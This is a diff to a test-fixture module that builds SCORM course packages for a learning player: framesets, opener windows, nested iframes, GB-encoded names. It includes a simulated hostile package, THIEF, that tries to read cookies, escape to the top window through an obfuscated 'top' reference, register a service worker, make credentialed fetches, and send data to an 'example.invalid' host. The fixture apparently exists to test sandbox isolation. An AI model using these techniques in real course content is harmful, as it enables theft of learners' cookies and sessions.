@@ -100,20 +100,87 @@ FRAMES = {
     "setInterval(fill, 100);</script></body></html>",
 }
 
+# Frames that reach each other as pages of one site do: by parent, by name, by what a function gives back.
+FRAMESET = {
+    "index.html": "<html><head><title>SCO</title><script src='api.js'></script><script>var API = null, visited = [];"
+    "function init() { API = find('API'); API.LMSInitialize(''); } function getAPI() { return API; }"
+    "function next(name) { visited.push(name); API.LMSSetValue('cmi.suspend_data', visited.join()); return visited.length; }"
+    "</script></head><frameset rows='80,*' onload='init()'><frame name='menu' src='menu.html'><frame name='content' src='content.html'>"
+    "</frameset></html>",
+    "api.js": FIND,
+    "menu.html": "<html><body><p id='learner'></p><p id='count'></p><p id='text'></p><button id='go' onclick='go()'>go</button>"
+    "<a id='second' href='second.html' target='content'>second</a><script>function go() {"
+    "document.getElementById('learner').textContent = parent.getAPI().LMSGetValue('cmi.core.student_id');"
+    "document.getElementById('text').textContent = parent.frames['content'].question('剪');"
+    "document.getElementById('count').textContent = parent.next('a') + parent.frames.content.document.title; }</script></body></html>",
+    "content.html": "<html><head><title>内容</title></head><body><script>function question(word) { return word + '枝'; }</script>"
+    "<iframe name='deep' src='deep.html'></iframe></body></html>",
+    "second.html": "<html><body><p id='second'>second page</p></body></html>",
+    "deep.html": "<html><body><p id='deep'></p><button id='ask' onclick='ask()'>ask</button><script>function ask() {"
+    "document.getElementById('deep').textContent = parent.parent.getAPI().LMSSetValue('cmi.core.lesson_location', '7') +"
+    " parent.parent.getAPI().LMSGetValue('cmi.core.lesson_location'); }</script></body></html>",
+}
+
+# A part that takes it for granted that its system is the window at the top.
+TOP = {
+    "index.html": "<html><head><script src='top.js'></script></head><body onload='begin()'><p id='began'></p>"
+    "<iframe id='inner' src='inner.html'></iframe></body></html>",
+    "top.js": "function begin() { if (window.top == window) return; var held = top.API;"
+    "document.getElementById('began').textContent = held.LMSInitialize('') + top.API.LMSGetValue('cmi.core.lesson_status'); }",
+    "inner.html": "<html><body><p id='said'></p><button id='done' onclick=\"said(top.API.LMSSetValue('cmi.core.lesson_status', 'passed'))\">"
+    "done</button><script>function said(word) { document.getElementById('said').textContent = word + window.top.API.LMSCommit(''); }"
+    "</script></body></html>",
+}
+
+# A launch page that plays in a window of its own, which finds the run-time through its opener and closes itself.
+OPENER = {
+    "index.html": "<html><head><script>"
+    + FIND
+    + "var API = find('API'), player = null; function launch() { API.LMSInitialize('');"
+    "player = window.open('player.html', 'player', 'width=800,height=600'); setInterval(function () {"
+    "document.getElementById('state').textContent = player.closed ? 'closed' : 'open'; }, 100); }"
+    "function heard(word) { document.getElementById('heard').textContent = word; return word.length; }"
+    "</script></head><body><button id='launch' onclick='launch()'>launch</button><p id='state'></p><p id='heard'></p></body></html>",
+    "player.html": "<html><body><p id='length'></p><button id='work' onclick='work()'>work</button><button id='end' onclick='end()'>end</button>"
+    "<script>function work() { document.getElementById('length').textContent = window.opener.heard('听见');"
+    "window.opener.API.LMSSetValue('cmi.core.score.raw', '91'); window.opener.API.LMSSetValue('cmi.core.lesson_status', 'passed'); }"
+    "function end() { window.opener.API.LMSFinish(''); window.close(); }</script></body></html>",
+}
+
+# A page that calls into the frame below it and reads its document.
+BELOW = {
+    "index.html": "<html><head><script>"
+    + FIND
+    + "var API = find('API'); API.LMSInitialize(''); function ask() { var inner = document.getElementById('inner').contentWindow;"
+    "document.getElementById('sum').textContent = inner.add(2, 3) + ' ' + inner.document.getElementById('word').innerHTML;"
+    "inner.state = { answers: [1, 2] }; API.LMSSetValue('cmi.suspend_data', inner.tell()); }</script></head><body>"
+    "<iframe id='inner' name='inner' src='inner.html'></iframe><p id='sum'></p><button id='ask' onclick='ask()'>ask</button></body></html>",
+    "inner.html": "<html><body><p id='word'>词</p><script>var state = null; function add(a, b) { return a + b; }"
+    "function tell() { return 'n=' + state.answers.length; }</script></body></html>",
+}
+
+QUIET = "<html><head><script>" + FIND + "var API = find('{name}');</script></head><body>quiet</body></html>"
+"""A part that does nothing of itself: a test calls its run-time."""
+
 # What a hostile package would try; it writes down what it got.
 THIEF = """<html><head><title>thief</title></head><body><pre id="loot"></pre><script>
-var loot = {};
+var loot = {}, outside = window["t" + "op"]; // the word itself is given another meaning
 function take(name, how) { try { loot[name] = String(how()); } catch (error) { loot[name] = "refused"; } }
 take("cookie", function () { return document.cookie; });
-take("top-cookie", function () { return window.top.document.cookie; });
-take("top-title", function () { return window.top.document.title; });
+take("top-cookie", function () { return outside.document.cookie; });
+take("top-title", function () { return outside.document.title; });
+take("cookie-below", function () { return Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document); });
 take("ancestor", function () { return window.frameElement ? window.frameElement.ownerDocument.title : "none"; });
 take("origin", function () { return window.origin; });
-take("navigate", function () { window.top.location.href = "/stolen/"; return "went"; });
+take("navigate", function () { outside.location.href = "/stolen/"; return "went"; });
 function tell() { document.getElementById("loot").textContent = JSON.stringify(loot); }
 function reach(name, url, options) { fetch(url, options).then(function (answer) { return answer.text(); })
   .then(function (text) { loot[name] = "got " + text.length; tell(); }, function () { loot[name] = "refused"; tell(); }); }
 reach("learn", "/learn/", { credentials: "include" });
+reach("home", location.protocol + "//127.0.0.1:" + location.port + "/learn/", { credentials: "include" });
+reach("own-root", location.origin + "/learn/", { credentials: "include" });
+try { navigator.serviceWorker.register("worker.js").then(function () { loot.worker = "got"; tell(); }, function () { loot.worker = "refused"; tell(); }); }
+catch (error) { loot.worker = "refused"; }
 reach("beat", "/play/beat/", { method: "POST", body: "{}" });
 reach("abroad", "http://example.invalid/?stolen=1", { mode: "no-cors" });
 tell();
@@ -206,6 +273,22 @@ def frames12() -> Package:
     return package
 
 
+def of_files(files: dict[str, str]) -> Package:
+    """SCORM 1.2 whose part begins at ``index.html`` among other files."""
+    package = single12()
+    package.files |= files
+    return package
+
+
+def quiet(version: str) -> Package:
+    """``1.2`` or ``2004``: one part that waits to be called."""
+    if version == "1.2":
+        return single12(QUIET.replace("{name}", "API"))
+    package = basic2004("2004 4th Edition")
+    package.files["a.html"] = QUIET.replace("{name}", "API_1484_11")
+    return package
+
+
 def basic2004(edition: str) -> Package:
     """SCORM 2004 (``2004 3rd Edition``, ``2004 4th Edition``) with two parts and sequencing."""
     sequencing = (
@@ -229,6 +312,13 @@ def basic2004(edition: str) -> Package:
     return Package({"imsmanifest.xml": manifest(body, version=edition), "a.html": BASIC2004, "b.html": BASIC2004})
 
 
+def thief12() -> Package:
+    """SCORM 1.2 that tries to get what is not its own."""
+    package = single12(THIEF)
+    package.files["worker.js"] = "self.onfetch = function () {};"
+    return package
+
+
 def without_organisation() -> Package:
     """A manifest with resources and no contents."""
     body = (
@@ -247,7 +337,10 @@ def gbk_names() -> Package:
         '<item identifier="I1" identifierref="R1"><title>育秧</title></item></organization></organizations>'
         "<resources>" + resource("R1", "课件\\首页.html") + "</resources>"
     )
-    page = "<html><head><meta http-equiv='Content-Type' content='text/html; charset=gb2312'></head><body><p id='text'>水稻育秧</p><img src='图片/秧苗.png'></body></html>"
+    page = BASIC12.replace("<head>", "<head><meta http-equiv='Content-Type' content='text/html; charset=gb2312'>")
+    page = page.replace("<body", "<!-- 育秧 --><body").replace(
+        '<p id="page">', '<p id="text">水稻育秧</p><img src="图片/秧苗.png"><p id="page">'
+    )
     return Package(
         {
             "imsmanifest.xml": manifest(body, declared="GB2312").encode("gb18030"),
